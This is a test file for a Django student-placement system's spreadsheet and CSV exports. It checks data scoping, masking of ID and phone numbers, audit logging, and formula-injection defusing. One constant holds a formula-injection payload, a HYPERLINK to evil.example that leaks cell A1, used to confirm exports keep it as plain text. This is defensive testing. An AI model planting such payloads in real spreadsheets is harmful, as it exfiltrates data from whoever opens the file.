"""Exports: scoped like the pages, personal data masked, never a formula from user text, and
every export recorded in the audit log."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from accounts.models import AuditEvent
from fanjiaxiang.exporters import ListExporter, write_xlsx
from students import services
from students.models import Placement
from tests.factories import PostFactory, StudentFactory, UniversityFactory

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def placed(world):
    """越秀's post has a placed student of 中山大学 whose texts try to be formulas; 天河's post
    has a student of another university."""
    student = StudentFactory(
        hometown=world.yuexiu, university=world.university, name="+越秀学生", major="@专业"
    )
    world.application = services.application_submit(
        actor=None, student=student, post=world.post_yx, statement=HOSTILE
    )
    services.application_offer(actor=None, application=world.application)
    services.offer_confirm(actor=None, application=world.application)
    other = StudentFactory(hometown=world.tianhe, university=UniversityFactory(name="华南理工大学"))
    world.other_application = services.application_submit(
        actor=None, student=other, post=world.post_th
    )
    services.application_offer(actor=None, application=world.other_application)
    services.offer_confirm(actor=None, application=world.other_application)
    world.placed, world.other = student, other
    return world


def _sheet(response):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return workbook.active


def _csv(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_a_university_exports_its_own_students_masked(client, placed):
    client.force_login(placed.uni_staff)
    sheet = _sheet(client.get(reverse("students:university_students_export")))
    rows = list(sheet.values)
    assert rows[0][:3] == ("学号", "姓名", "身份证号")
    assert [row[0] for row in rows[1:]] == [placed.placed.student_number]
    assert rows[1][2] == placed.placed.id_number_masked
    assert all(placed.placed.id_number not in str(v) for row in rows for v in row)
    assert placed.other.name not in {row[1] for row in rows}


def test_no_exported_cell_is_a_formula_and_the_text_survives(client, placed):
    client.force_login(placed.uni_staff)
    sheet = _sheet(client.get(reverse("students:university_students_export")))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "+越秀学生" in [cell.value for cell in cells] and "@专业" in [c.value for c in cells]


def test_the_applicants_export_keeps_a_hostile_statement_as_text(client, placed):
    client.force_login(placed.yx_staff)
    response = client.get(reverse("students:post_applicants_export", args=[placed.post_yx.pk]))
    sheet = _sheet(response)
    statement = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert statement and statement[0].data_type == "s"
    phones = [row[4] for row in list(sheet.values)[1:]]
    assert phones == ["139****9000"]


def test_csv_exports_defuse_formulas_with_an_apostrophe(client, placed):
    client.force_login(placed.uni_staff)
    rows = _csv(client.get(reverse("students:university_students_export"), {"format": "csv"}))
    assert rows[1][1] == "'+越秀学生" and rows[1][4] == "'@专业"
    assert not [v for row in rows for v in row if v[:1] in ("=", "+", "-", "@")]


def test_an_outsider_cannot_export_another_countys_applicants(client, placed):
    client.force_login(placed.th_staff)
    url = reverse("students:post_applicants_export", args=[placed.post_yx.pk])
    assert client.get(url).status_code == 404
    client.force_login(placed.th_host)
    assert client.get(url).status_code == 404
    assert not AuditEvent.objects.filter(action="export").exists()


def test_only_university_staff_export_university_students(client, placed):
    client.force_login(placed.yx_staff)
    assert client.get(reverse("students:university_students_export")).status_code == 404


def test_every_export_is_recorded(client, placed):
    client.force_login(placed.uni_staff)
    client.get(reverse("students:university_students_export"))
    event = AuditEvent.objects.get(action="export")
    assert event.actor == placed.uni_staff and event.province == placed.province
    assert event.data["export"] == "本校学生实践安排" and event.data["rows"] == 1


class _Numbers(ListExporter):
    headers = ("n", "text")

    def rows(self):
        for n in range(self.filters["count"]):
            yield [n, f"-{n}" if n % 2 else f"{n}"]


def test_the_xlsx_writer_streams_rows_from_a_generator(tmp_path):
    target = tmp_path / "numbers.xlsx"
    assert write_xlsx(_Numbers(None, count=5000), target) == 5000
    sheet = openpyxl.load_workbook(target, read_only=True).active
    values = list(sheet.values)
    assert len(values) == 5001 and values[2] == (1, "-1")


def test_placements_exported_are_the_universitys_only_even_with_many(client, placed):
    post = PostFactory(host_unit=placed.unit_th, headcount=5)
    for _ in range(3):
        student = StudentFactory(hometown=placed.tianhe, university=placed.university)
        application = services.application_submit(actor=None, student=student, post=post)
        services.application_offer(actor=None, application=application)
        services.offer_confirm(actor=None, application=application)
    client.force_login(placed.uni_staff)
    rows = list(_sheet(client.get(reverse("students:university_students_export"))).values)[1:]
    assert len(rows) == Placement.objects.filter(student__university=placed.university).count()


def test_text_pasted_from_word_with_control_characters_still_exports(client, placed):
    from students.models import Application

    Application.objects.filter(pk=placed.application.pk).update(statement="第一行\x0b第二行\x07")
    client.force_login(placed.yx_staff)
    response = client.get(reverse("students:post_applicants_export", args=[placed.post_yx.pk]))
    values = [v for row in _sheet(response).values for v in row]
    assert "第一行第二行" in values


def test_withdrawn_applicants_are_not_exported(client, placed):
    student = StudentFactory(hometown=placed.yuexiu, name="已撤回学生")
    application = services.application_submit(actor=None, student=student, post=placed.post_yx)
    services.application_withdraw(actor=None, application=application)
    client.force_login(placed.yx_staff)
    rows = _csv(
        client.get(
            reverse("students:post_applicants_export", args=[placed.post_yx.pk]),
            {"format": "csv"},
        )
    )
    assert "已撤回学生" not in [row[0] for row in rows]
